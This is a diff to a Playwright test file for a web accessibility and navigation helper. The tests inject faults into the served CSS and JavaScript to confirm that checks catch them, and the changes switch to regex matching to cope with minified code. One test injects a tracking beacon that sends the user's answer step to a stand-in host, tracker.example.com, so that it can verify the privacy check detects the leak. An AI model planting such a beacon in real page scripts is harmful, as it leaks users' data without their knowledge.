@@ -208,7 +208,8 @@ def test_on_a_phone_each_tapped_answer_brings_its_question_into_view(tabs, site_
 def test_view_check_catches_a_question_hidden_under_the_header(browser, site_server):
     context = browser.new_context(viewport={"width": 375, "height": 740})
     def no_margin(route):
-        route.fulfill(body=route.fetch().text().replace("scroll-margin-top: 4rem;", ""), content_type="text/css")
+        body = re.sub(r"scroll-margin-top: ?4rem;?", "", route.fetch().text())
+        route.fulfill(body=body, content_type="text/css")
     context.route(re.compile(r".*/movement-helper\.css$"), no_margin)
     try:
         tab = open_helper(context.new_page(), site_server)
@@ -221,7 +222,8 @@ def test_view_check_catches_a_question_hidden_under_the_header(browser, site_ser
 def test_path_check_catches_focus_that_does_not_move(browser, site_server):
     context = browser.new_context()
     def no_focus(route):
-        body = route.fetch().text().replace("if (moveFocus) parts.heading.focus();", "")
+        # The published script is minified: match with or without spaces.
+        body = re.sub(r"if ?\(moveFocus\) ?parts\.heading\.focus\(\);", "", route.fetch().text())
         route.fulfill(body=body, content_type="application/javascript")
     context.route(re.compile(r".*/movement-helper\.js$"), no_focus)
     try:
@@ -313,9 +315,9 @@ def test_privacy_check_catches_a_helper_that_sends_an_answer(browser, site_serve
     context = browser.new_context()
     requests = record_requests(context)
     def leak(route):
-        body = route.fetch().text().replace(
-            "Helper.prototype.go = function (state) {",
-            "Helper.prototype.go = function (state) { new Image().src = 'https://tracker.example.com/?a=' + state.step;")
+        body = re.sub(r"Helper\.prototype\.go ?= ?function ?\(state\) ?\{",
+                      "Helper.prototype.go = function (state) { new Image().src = "
+                      "'https://tracker.example.com/?a=' + state.step;", route.fetch().text())
         route.fulfill(body=body, content_type="application/javascript")
     context.route(re.compile(r".*/movement-helper\.js$"), leak)
     context.route("https://tracker.example.com/**", lambda route: route.abort())
